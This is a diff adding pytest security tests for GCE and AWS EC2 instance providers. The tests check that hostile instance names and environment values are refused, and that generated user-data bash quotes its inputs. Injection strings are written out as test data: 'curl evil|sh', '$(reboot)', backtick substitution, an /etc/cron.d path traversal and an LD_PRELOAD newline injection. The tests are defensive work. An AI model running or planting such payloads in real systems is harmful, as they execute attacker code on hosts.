@@ -4,19 +4,33 @@ google-cloud-compute against a local HTTP stand-in of the Compute REST API, boto
 from __future__ import annotations
 
 import base64
+import os
+import re
+import subprocess
 
 import boto3
 import pytest
 from moto import mock_aws
 
 from activities.providers import InstanceSpec, ProviderRefused, instance_env
-from activities.providers.aws import Ec2Provider
+from activities.providers.aws import Ec2Provider, user_data
 from activities.providers.google_cloud import ComputeEngineProvider
 from controller_gce_standin import ComputeStandIn
 from fogverse.settings import ProviderSettings
 
 ENV = {"INSTANCE_ID": "analyzer-1", "SERVICE_NAME": "analyzer", "KAFKA_BOOTSTRAP_SERVERS": "10.0.0.5:9092",
        "MODEL_MODE": "fast"}
+HOSTILE = "x;curl evil|sh;#"
+#: names from a forged announcement: none may reach a cloud API
+HOSTILE_SPECS = [
+    InstanceSpec(f"{HOSTILE}-1", HOSTILE, ENV),
+    InstanceSpec("analyzer-1;reboot", "analyzer", ENV),
+    InstanceSpec("analyzer-$(reboot)", "analyzer", ENV),
+    InstanceSpec("../../etc/cron.d/evil-1", "../../etc/cron.d/evil", ENV),
+    InstanceSpec("notifier-1", "analyzer", ENV),  # another service's name
+    InstanceSpec("Analyzer-1", "Analyzer", ENV),
+    InstanceSpec("a" * 41 + "-1", "a" * 41, ENV),
+]
 
 
 def settings(**env: str) -> ProviderSettings:
@@ -67,9 +81,25 @@ async def test_gce_create_and_delete_are_idempotent_and_list_is_by_label(gce, co
     assert list(compute.instances) == ["notifier-1"]
 
 
-async def test_gce_refusal_is_not_retried(gce):
-    with pytest.raises(ProviderRefused, match="Compute Engine refused"):
-        await gce.create(InstanceSpec("Not_A_Valid_Name", "analyzer", ENV))
+@pytest.mark.parametrize("spec", HOSTILE_SPECS, ids=lambda s: s.name)
+async def test_gce_refuses_a_hostile_name_before_any_api_call(gce, compute, spec):
+    with pytest.raises(ProviderRefused, match="refused"):
+        await gce.create(spec)
+    assert await gce.delete(spec.name, spec.service) is False
+    assert await gce.list(spec.service) == []
+    assert [kind for kind, _, _ in compute.requests if kind != "list"] == [] and compute.instances == {}
+
+
+async def test_gce_maps_an_underscore_to_a_legal_vm_name_and_back(gce, compute):
+    info = await gce.create(InstanceSpec("discord_bot-1", "discord_bot", ENV))
+    (vm,) = compute.instances
+    assert re.fullmatch(r"[a-z]([-a-z0-9]{0,61}[a-z0-9])?", vm) and vm.startswith("discord-bot-1-")
+    await gce.create(InstanceSpec("discord-bot-1", "discord-bot", ENV))  # a service that differs only there
+    assert len(compute.instances) == 2, "two services never share a VM"
+    assert info.name == "discord_bot-1"
+    assert [i.name for i in await gce.list("discord_bot")] == ["discord_bot-1"]
+    assert await gce.delete("discord_bot-1") is True
+    assert list(compute.instances) == ["discord-bot-1"]
 
 
 # ─── AWS EC2 ───────────────────────────────────────────────────────────────────────────────
@@ -97,6 +127,49 @@ def test_aws_runs_an_instance_that_starts_the_container(ec2):
     script = base64.b64decode(raw["UserData"]["Value"]).decode()
     assert "docker run -d --restart=always --name analyzer-1" in script
     assert "ghcr.io/siaga/analyzer:1.0" in script and "KAFKA_BOOTSTRAP_SERVERS=10.0.0.5:9092" in script
+
+
+def run_user_data(script: str, tmp_path) -> subprocess.CompletedProcess:
+    """Run the script for real, with stand-ins for the commands that would change this machine."""
+    bin_dir = tmp_path / "bin"
+    bin_dir.mkdir()
+    for command in ("docker", "systemctl", "dnf", "yum", "apt-get"):
+        (bin_dir / command).write_text(f'#!/bin/sh\nprintf "%s\\n" "$@" > "{tmp_path}/{command}.args"\n')
+        (bin_dir / command).chmod(0o755)
+    return subprocess.run(["bash", "-c", script], cwd=tmp_path, capture_output=True, text=True, timeout=30,
+                          env={"PATH": f"{bin_dir}:{os.environ['PATH']}", "HOME": str(tmp_path)})
+
+
+def test_aws_user_data_is_valid_bash_that_quotes_every_value(tmp_path):
+    evil = {"MODEL_MODE": f"fast$(touch {tmp_path}/pwned)", "LOG_LEVEL": "INFO'; touch pwned; '",
+            "OBSERVER_TOPIC": 'obs"`touch pwned`', "BATCH_SIZE": "5 SIAGA_ENV\tx", "WORKER_THREADS": "*"}
+    script = user_data("analyzer-1", "ghcr.io/siaga/analyzer:1.0; touch pwned", evil, env_dir=str(tmp_path / "etc"))
+    assert subprocess.run(["bash", "-n"], input=script, capture_output=True, text=True).returncode == 0
+    ran = run_user_data(script, tmp_path)
+    assert ran.returncode == 0, ran.stderr
+    assert not list(tmp_path.rglob("pwned")), "a value ran as a command"
+    written = (tmp_path / "etc" / "analyzer-1.env").read_text().splitlines()
+    assert written == [f"{key}={value}" for key, value in sorted(evil.items())]
+    docker = (tmp_path / "docker.args").read_text().splitlines()
+    assert docker[-1] == "ghcr.io/siaga/analyzer:1.0; touch pwned" and docker[docker.index("--name") + 1] == "analyzer-1"
+
+
+def test_aws_user_data_refuses_what_an_env_file_cannot_carry():
+    with pytest.raises(ProviderRefused, match="line break"):
+        user_data("analyzer-1", "image", {"MODEL_MODE": "fast\nLD_PRELOAD=/tmp/evil.so"})
+    with pytest.raises(ProviderRefused, match="not a shell variable name"):
+        user_data("analyzer-1", "image", {"X=1 LD_PRELOAD": "y"})
+
+
+@pytest.mark.parametrize("spec", HOSTILE_SPECS, ids=lambda s: s.name)
+async def test_aws_refuses_a_hostile_name_before_any_api_call(ec2, spec):
+    client, ami = ec2
+    provider = Ec2Provider(settings(AWS_AMI_ID=ami), client)
+    with pytest.raises(ProviderRefused, match="refused"):
+        await provider.create(spec)
+    assert await provider.delete(spec.name, spec.service) is False
+    assert await provider.list(spec.service) == []
+    assert client.describe_instances()["Reservations"] == [], "moto saw an instance"
 
 
 def test_aws_create_and_delete_are_idempotent_and_list_is_by_tag(ec2):
